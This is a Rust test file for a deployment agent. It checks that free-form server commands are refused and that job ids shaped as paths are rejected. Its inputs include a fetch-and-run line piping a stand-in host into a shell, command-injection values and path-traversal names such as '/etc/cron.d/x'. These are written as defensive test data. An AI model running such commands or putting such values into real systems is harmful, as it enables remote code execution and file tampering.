//! DE-01, DE-03, DE-19: what a server's job says it is, and what it wants run.

use airlock_tests::fakeglpi::Package;
use airlock_tests::managed::{Managed, TOUCH};
use serde_json::json;
use std::fs;
use std::os::unix::fs::PermissionsExt;

const UUID: &str = "6b02e835e4c90";

#[test]
fn de_01_a_free_command_does_not_run_whatever_comes_first_in_the_path() {
    for exec in ["curl http://evil.test|sh", "sh -c id", "touch {folder}/a; id", "touch {folder}/$(id)", "/bin/sh", ""]
    {
        let managed = Managed::new(TOUCH);
        let canary = managed.path("canary");
        let bin = managed.path("bin");
        fs::create_dir(&bin).unwrap();
        for name in ["curl", "sh", "id", "touch"] {
            let path = bin.join(name);
            fs::write(&path, format!("#!/bin/sh\n: > {}\n", canary.display())).unwrap();
            fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
        }
        let exec = exec.replace("{folder}", managed.folder.path().to_str().unwrap());
        managed.server.deploys(&Package::new(UUID).action(json!({"cmd": {"exec": exec}})));
        let mut command = managed.agent.command(&["run", "--json"]);
        command.env("PATH", format!("{}:/usr/bin:/bin", bin.display()));
        let output = command.output().unwrap();
        assert!(!canary.exists() && !managed.path("a").exists(), "{exec}: {output:?}");
        let lines = managed.server.told();
        assert!(lines.last().unwrap().contains("ko: "), "{exec}: {lines:?}");
        if !exec.is_empty() {
            assert!(
                lines.iter().any(|line| line.contains("refused: free command; ask the owner for a template")),
                "{exec}: {lines:?}"
            );
        }
    }
}

#[test]
fn de_01_twin_a_command_that_the_owner_spells_out_runs() {
    let managed = Managed::new(TOUCH);
    managed
        .server
        .deploys(&Package::new(UUID).action(json!({"cmd": {"exec": format!("touch {}", managed.text("a"))}})));
    let told = managed.round();
    assert!(managed.path("a").exists(), "{told}");
    assert_eq!(managed.server.told().last().map(String::as_str), Some("ok: job successfully completed"));
}

/// A command of the owner's that forks away twice, into a session of its own, gives up its output, and ends or does not.
const AWAY: &str = r#"
[[grant]]
server = ["hq"]
task = ["deploy"]
verb = "exec.template"
templates = ["away", "stays"]
[template.away]
program = "{folder}/away"
argv = []
recognise = ["away"]
wall_seconds = 20
[template.stays]
program = "{folder}/away"
argv = ["60"]
recognise = ["stays"]
wall_seconds = 3
"#;

#[test]
fn de_19_what_forks_away_and_gives_up_its_output_ends_with_its_command() {
    let managed = Managed::new(AWAY);
    let (pids, program) = (managed.path("pids"), managed.path("away"));
    let script = format!(
        "#!/bin/sh\n: > {0}\n(setsid sh -c 'exec </dev/null >/dev/null 2>&1; echo $$ >> {0}; exec sleep 300' &)\n\
         while [ ! -s {0} ]; do sleep 0.05; done\n[ -z \"$1\" ] || exec sleep $1\n",
        pids.display()
    );
    fs::write(&program, script).unwrap();
    fs::set_permissions(&program, fs::Permissions::from_mode(0o755)).unwrap();
    for (number, (exec, end)) in
        [("away", "ok: job successfully completed"), ("stays", "processing ko: ")].into_iter().enumerate()
    {
        managed.server.deploys(&Package::new(&format!("6b02e835e4c9{number}")).action(json!({"cmd": {"exec": exec}})));
        managed.round();
        let lines = managed.server.told();
        assert!(lines.last().unwrap().starts_with(end), "{exec}: {lines:?}");
        let pid = fs::read_to_string(&pids).unwrap();
        let stat = fs::read_to_string(format!("/proc/{}/stat", pid.trim())).unwrap_or_default();
        assert!(!pid.is_empty() && (stat.is_empty() || stat.contains(") Z ")), "{exec}: {stat}");
    }
}

#[test]
fn de_03_a_job_whose_name_is_a_path_is_not_done() {
    for uuid in ["../../../tmp/x", "/etc/cron.d/x", "6b02e835e4c90/../..", "..", "6b02e835e4c90\u{0}", "AAAAAAAA"] {
        let managed = Managed::new(TOUCH);
        managed
            .server
            .deploys(&Package::new(uuid).action(json!({"cmd": {"exec": format!("touch {}", managed.text("a"))}})));
        let told = managed.round();
        assert!(told["what"].as_str().unwrap().contains("without a uuid that is one"), "{uuid:?}: {told}");
        assert!(!managed.path("a").exists(), "{uuid:?}");
        let jobs = managed.state().join("servers/hq/jobs");
        let left = fs::read_dir(jobs).map_or(0, |entries| entries.count());
        assert_eq!((left, managed.server.told().len()), (0, 0), "{uuid:?}");
        assert_eq!(managed.agent.airlock.events("jobs refused").len(), 1, "{uuid:?}");
    }
}

#[test]
fn de_03_twin_names_as_servers_give_them_are_names() {
    for uuid in ["6b02e835e4c90", "0b6f2c1e-7d43-4b1e-9a55-0123456789ab"] {
        let managed = Managed::new(TOUCH);
        managed
            .server
            .deploys(&Package::new(uuid).action(json!({"cmd": {"exec": format!("touch {}", managed.text("a"))}})));
        managed.round();
        assert!(managed.path("a").exists(), "{uuid}");
    }
}
